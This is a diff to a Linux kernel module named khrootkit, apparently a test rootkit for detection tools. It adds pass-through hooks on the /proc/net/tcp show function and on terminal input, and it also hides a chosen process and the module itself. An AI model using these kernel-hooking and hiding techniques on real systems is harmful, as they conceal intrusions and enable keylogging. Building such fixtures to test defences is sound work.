@@ -13,10 +13,16 @@
  *     ftrace hook (an ftrace_ops whose callback is its own) on
  *     ftrace_sym (default __x64_sys_syncfs), the way rootkits for current
  *     kernels hook system calls;
- *  4. hides the process hide_pid: unlinks it from the task list (it stays
+ *  4. replaces the show() of tcp4_seq_ops (what /proc/net/tcp is read
+ *     with, so what netstat and ss -F show) and the receive_buf() of
+ *     n_tty_ops (the line discipline every terminal's input goes through,
+ *     a keylogger's place) with functions of its own that call the
+ *     original ones; the loader passes both tables' addresses (seq_ops,
+ *     ldisc_ops), checked as sct is;
+ *  5. hides the process hide_pid: unlinks it from the task list (it stays
  *     in its pid namespace's IDR, so /proc/PID and the /proc listing still
  *     have it, and in its parent's children);
- *  5. hides itself: unlinks itself from the module list (/proc/modules),
+ *  6. hides itself: unlinks itself from the module list (/proc/modules),
  *     while /sys/module/khrootkit and its parameters stay.
  *
  * Each step that fails undoes the earlier ones and fails the init; the
@@ -42,8 +48,9 @@
  *
  * Read-only parameters give the tests their ground truth, in hex without
  * 0x: hook_addr (the syscall hook), kprobe_addr (the probed address),
- * nf_hook_addr (the netfilter hook function) and ftrace_addr (the ftrace
- * callback); sct is shown in hex too.
+ * nf_hook_addr (the netfilter hook function), ftrace_addr (the ftrace
+ * callback), seq_show_addr and tty_hook_addr (the two operations hooks);
+ * sct, seq_ops and ldisc_ops are shown in hex too.
  */
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
@@ -63,7 +70,9 @@
 #include <linux/sched/task.h>
 #include <linux/stop_machine.h>
 #include <linux/string.h>
+#include <linux/seq_file.h>
 #include <linux/sysfs.h>
+#include <linux/tty.h>
 #include <linux/vmalloc.h>
 #include <net/net_namespace.h>
 #include <asm/unistd.h>
@@ -133,6 +142,22 @@ static unsigned long ftrace_addr;
 module_param_cb(ftrace_addr, &kh_out_ops, &ftrace_addr, 0444);
 MODULE_PARM_DESC(ftrace_addr, "out: the ftrace callback");
 
+static unsigned long seq_ops;
+module_param_cb(seq_ops, &kh_hex_ops, &seq_ops, 0444);
+MODULE_PARM_DESC(seq_ops, "address of tcp4_seq_ops, from /proc/kallsyms (required)");
+
+static unsigned long ldisc_ops;
+module_param_cb(ldisc_ops, &kh_hex_ops, &ldisc_ops, 0444);
+MODULE_PARM_DESC(ldisc_ops, "address of n_tty_ops, from /proc/kallsyms (required)");
+
+static unsigned long seq_show_addr;
+module_param_cb(seq_show_addr, &kh_out_ops, &seq_show_addr, 0444);
+MODULE_PARM_DESC(seq_show_addr, "out: the function now in tcp4_seq_ops.show");
+
+static unsigned long tty_hook_addr;
+module_param_cb(tty_hook_addr, &kh_out_ops, &tty_hook_addr, 0444);
+MODULE_PARM_DESC(tty_hook_addr, "out: the function now in n_tty_ops.receive_buf");
+
 /* --- 1. sys_call_table entry ------------------------------------------- */
 
 static long (*kh_sct_orig)(const struct pt_regs *regs);
@@ -142,8 +167,11 @@ static long kh_sct_hook(const struct pt_regs *regs)
 	return kh_sct_orig(regs);
 }
 
-/* Write one table entry through a temporary writable alias of its page. */
-static int kh_sct_write(unsigned long *slot, unsigned long val)
+/*
+ * Write one word of a kernel table through a temporary writable alias of
+ * its page: the table may be read-only (sys_call_table, tcp4_seq_ops).
+ */
+static int kh_table_write(unsigned long *slot, unsigned long val)
 {
 	struct page *page = virt_to_page(slot);
 	void *alias;
@@ -190,7 +218,7 @@ static int kh_sct_install(void)
 		return -EINVAL;
 	}
 	kh_sct_orig = (void *)old;
-	err = kh_sct_write(slot, (unsigned long)kh_sct_hook);
+	err = kh_table_write(slot, (unsigned long)kh_sct_hook);
 	if (err) {
 		pr_err("sys_call_table[%d]: vmap failed\n", sct_nr);
 		return err;
@@ -205,7 +233,7 @@ static void kh_sct_restore(void)
 {
 	unsigned long *slot = (unsigned long *)sct + sct_nr;
 
-	if (kh_sct_write(slot, (unsigned long)kh_sct_orig))
+	if (kh_table_write(slot, (unsigned long)kh_sct_orig))
 		pr_err("sys_call_table[%d]: cannot restore it (vmap failed)\n",
 		       sct_nr);
 	hook_addr = 0;
@@ -302,7 +330,81 @@ static int kh_ftrace_install(void)
 	return 0;
 }
 
-/* --- 4. and 5. hiding -------------------------------------------------- */
+/* --- 4. operations tables --------------------------------------------- */
+
+static int (*kh_seq_show_orig)(struct seq_file *m, void *v);
+
+static int kh_seq_show(struct seq_file *m, void *v)
+{
+	return kh_seq_show_orig(m, v);
+}
+
+static void (*kh_receive_buf_orig)(struct tty_struct *tty,
+				   const unsigned char *cp, const char *fp,
+				   int count);
+
+static void kh_receive_buf(struct tty_struct *tty, const unsigned char *cp,
+			   const char *fp, int count)
+{
+	kh_receive_buf_orig(tty, cp, fp, count);
+}
+
+/* addr is symbol sym (a lookup only: nothing is read at a wrong address) */
+static int kh_is_symbol(unsigned long addr, const char *sym)
+{
+	char name[KSYM_SYMBOL_LEN];
+	size_t len = strlen(sym);
+
+	snprintf(name, sizeof(name), "%pS", (void *)addr);
+	if (!addr || !IS_ALIGNED(addr, sizeof(unsigned long)) ||
+	    strncmp(name, sym, len) || strncmp(name + len, "+0x0/", 5)) {
+		pr_err("%lx is %s, not %s\n", addr, name, sym);
+		return 0;
+	}
+	return 1;
+}
+
+/* the slots: tcp4_seq_ops.show and n_tty_ops.receive_buf */
+#define KH_SHOW_SLOT ((unsigned long *)(seq_ops + \
+		      offsetof(struct seq_operations, show)))
+#define KH_RECEIVE_SLOT ((unsigned long *)(ldisc_ops + \
+			 offsetof(struct tty_ldisc_ops, receive_buf)))
+
+static int kh_ops_install(void)
+{
+	int err;
+
+	if (!kh_is_symbol(seq_ops, "tcp4_seq_ops") ||
+	    !kh_is_symbol(ldisc_ops, "n_tty_ops"))
+		return -EINVAL;
+	kh_seq_show_orig = (void *)READ_ONCE(*KH_SHOW_SLOT);
+	kh_receive_buf_orig = (void *)READ_ONCE(*KH_RECEIVE_SLOT);
+	err = kh_table_write(KH_SHOW_SLOT, (unsigned long)kh_seq_show);
+	if (err)
+		return err;
+	err = kh_table_write(KH_RECEIVE_SLOT, (unsigned long)kh_receive_buf);
+	if (err) {
+		kh_table_write(KH_SHOW_SLOT, (unsigned long)kh_seq_show_orig);
+		return err;
+	}
+	seq_show_addr = (unsigned long)kh_seq_show;
+	tty_hook_addr = (unsigned long)kh_receive_buf;
+	pr_info("tcp4_seq_ops.show -> %lx, n_tty_ops.receive_buf -> %lx\n",
+		seq_show_addr, tty_hook_addr);
+	return 0;
+}
+
+static void kh_ops_restore(void)
+{
+	if (kh_table_write(KH_RECEIVE_SLOT,
+			   (unsigned long)kh_receive_buf_orig) ||
+	    kh_table_write(KH_SHOW_SLOT, (unsigned long)kh_seq_show_orig))
+		pr_err("cannot restore the operations tables (vmap failed)\n");
+	seq_show_addr = 0;
+	tty_hook_addr = 0;
+}
+
+/* --- 5. and 6. hiding -------------------------------------------------- */
 
 /* runs with every other CPU stopped, interrupts off */
 static int kh_unlink(void *data)
@@ -367,11 +469,14 @@ static int __init khrootkit_init(void)
 	err = kh_ftrace_install();
 	if (err)
 		goto unregister_nf;
+	err = kh_ops_install();
+	if (err)
+		goto unregister_ftrace;
 
 	err = stop_machine(kh_unlink, task, NULL);
 	if (err) {
 		pr_err("hide_pid=%d: cannot unlink it: %d\n", hide_pid, err);
-		goto unregister_ftrace;
+		goto restore_ops;
 	}
 	synchronize_rcu();
 	stop_machine(kh_self_point, task, NULL);
@@ -380,6 +485,8 @@ static int __init khrootkit_init(void)
 		hide_pid, task->comm);
 	return 0;
 
+restore_ops:
+	kh_ops_restore();
 unregister_ftrace:
 	unregister_ftrace_function(&kh_ftrace_ops);
 	ftrace_free_filter(&kh_ftrace_ops);
